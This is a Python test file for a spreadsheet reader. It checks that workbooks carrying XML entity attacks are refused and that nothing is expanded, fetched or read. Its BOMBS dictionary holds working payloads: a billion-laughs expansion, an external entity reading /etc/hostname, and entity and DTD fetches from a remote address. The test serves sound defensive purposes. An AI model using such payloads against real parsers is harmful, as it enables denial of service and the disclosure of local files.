"""Workbooks whose XML would grow without end or fetch something: refused, and nothing is fetched or read."""

from __future__ import annotations

from pathlib import Path

import pytest
from tests.exchange.test_files_hostile import register, repack  # noqa: F401 - a fixture

from yice.exchange.files import read
from yice.terms.errors import Problem

HEAD = '<?xml version="1.0"?>'
SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c></row>'
    '<row r="2"><c r="A2" t="inlineStr"><is><t>&x;</t></is></c></row></sheetData></worksheet>'
)
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BOMBS = {
    "laughs": f'<!DOCTYPE z [<!ENTITY l0 "ha">{LAUGHS}<!ENTITY x "&l9;">]>',
    "file": '<!DOCTYPE z [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
    "address": '<!DOCTYPE z [<!ENTITY x SYSTEM "http://192.0.2.1/x">]>',
    "parameter": '<!DOCTYPE z [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd">%p;<!ENTITY x "y">]>',
}


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS.keys())
@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"])
def test_an_entity_is_never_opened(register: Path, bomb: str, part: str) -> None:  # noqa: F811
    repack(register, {part: (HEAD + bomb + SHEET).encode()})
    try:
        table = read(register)
    except Problem as problem:
        said = str(problem)
    else:
        said = str(table)
    assert "haha" not in said and len(said) < 100_000
    hostname = Path("/etc/hostname")
    assert not hostname.exists() or hostname.read_text().strip() not in said
